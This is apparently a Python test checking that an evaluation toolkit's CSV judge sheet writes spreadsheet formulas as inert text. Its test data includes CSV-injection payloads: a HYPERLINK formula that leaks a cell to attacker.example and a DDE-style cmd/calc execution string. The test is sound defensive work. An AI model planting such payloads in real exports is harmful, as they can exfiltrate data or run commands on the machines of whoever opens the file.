"""The judge sheet a person opens in a spreadsheet runs no formula: an answer or a reference that a
spreadsheet would evaluate (beginning with =, +, -, @, a tab or a carriage return) is written as text,
a leading single quote before it, and `ladder audit judge --read` reads the sheet back as written."""
from __future__ import annotations

import csv
import json
from pathlib import Path

from typer.testing import CliRunner

from oracleladder.cli import app
from oracleladder.schemas import Family, to_released
from oracleladder.schemas.jsonl import read_jsonl, write_jsonl
from oracleladder.schemas.sheets import read_rows
from oracleladder.testing import LoopbackServer
from oracleladder.validators import reference_answer_problem

STUDENT, JUDGE = "openai/student", "openai/judge-model"
SURE = "I am sure."
ANSWERS = [  # each rejected by the verifier (no box) and accepted by the scripted judge
    f'=HYPERLINK("http://attacker.example/leak?ref="&C2, "see the working") {SURE}',
    f"@SUM(1+1)*cmd|' /C calc'!A0 {SURE}",
    f"+1+1 {SURE}",
    f"\t=1+1 {SURE}",
    f"\r=1+1 {SURE}",
    f"'=1+1 {SURE}",  # a quote of its own, kept
]
REFERENCE = "-\\frac{1}{2}"  # a spreadsheet would read the sign as a formula too


def test_the_judge_sheet_writes_formulas_as_text_and_reads_them_back(tmp_path: Path, release_data: Path) -> None:
    family = next(f for f in read_jsonl(release_data / "families_sample.jsonl", Family)
                  if reference_answer_problem(f) is None).model_copy(update={"parent_answer": REFERENCE})
    write_jsonl(tmp_path / "families.jsonl", [to_released(family)])
    store, sheet = tmp_path / "s.sqlite", tmp_path / "sheet.csv"
    assert CliRunner().invoke(app, ["import", str(tmp_path / "families.jsonl"), "--store", str(store)]).exit_code == 0
    asked: list[str] = []

    def student(messages: list[dict], body: dict) -> str:
        asked.append(messages[-1]["content"])
        return ANSWERS[len(asked) - 1]

    with LoopbackServer(script=student) as server:
        result = CliRunner().invoke(app, ["probe", "--student", STUDENT, "--k", str(len(ANSWERS)), "--no-stage0",
                                          "--conditions", "C1", "--store", str(store), "--base-url",
                                          server.openai_base_url, "--concurrency", "1"])
    assert result.exit_code == 0, result.output
    judge = lambda m, b: '{"verdict": "ACCEPT", "reason": "scripted"}'  # noqa: E731
    with LoopbackServer(script=judge) as server:
        result = CliRunner().invoke(app, ["audit", "judge", "--judge", JUDGE, "--student", STUDENT, "--n", "100",
                                          "--seed", "0", "--sheet", str(sheet), "--store", str(store),
                                          "--base-url", server.openai_base_url, "--json"])
    assert result.exit_code == 0, result.output

    # what a spreadsheet reads: no cell begins with what it would evaluate
    written = list(csv.DictReader(sheet.open(newline="", encoding="utf-8")))
    assert len(written) == len(ANSWERS)
    for row in written:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert row["reference_answer"] == "'" + REFERENCE
    assert {row["response_tail"] for row in written} == {"'" + a for a in ANSWERS}

    # read back as the toolkit wrote it: every cell as it was
    rows = list(read_rows(sheet))
    assert {row["response_tail"] for row in rows} == set(ANSWERS)
    assert {row["reference_answer"] for row in rows} == {REFERENCE}

    # a person labels the cases in a spreadsheet (which saves the cells as it shows them) and --read counts them
    for row in written:
        row["label"] = "incorrect"
    with sheet.open("w", newline="", encoding="utf-8") as fh:
        out = csv.DictWriter(fh, fieldnames=list(written[0]))
        out.writeheader()
        out.writerows(written)
    result = CliRunner().invoke(app, ["audit", "judge", "--read", str(sheet), "--json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["all"]["judge_over_acceptances"] == len(ANSWERS)
